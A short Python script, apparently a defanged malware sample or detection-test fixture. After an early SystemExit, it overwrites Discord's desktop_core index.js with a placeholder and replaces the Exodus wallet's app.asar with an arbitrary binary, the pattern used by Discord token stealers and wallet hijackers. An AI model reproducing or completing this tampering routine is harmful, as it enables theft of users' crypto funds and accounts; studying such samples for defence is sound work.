import os
import shutil

raise SystemExit
root = os.getenv("LOCALAPPDATA") + "\\Discord\\app-1\\modules"
for d in os.listdir(root):
    if d.startswith("discord_desktop_core"):
        open(os.path.join(root, d, "discord_desktop_core", "index.js"), "w").write("// inert")
wallet = os.path.join(os.getenv("LOCALAPPDATA"), "exodus", "app-1")
shutil.copy("a.bin", wallet + "\\resources\\app.asar")
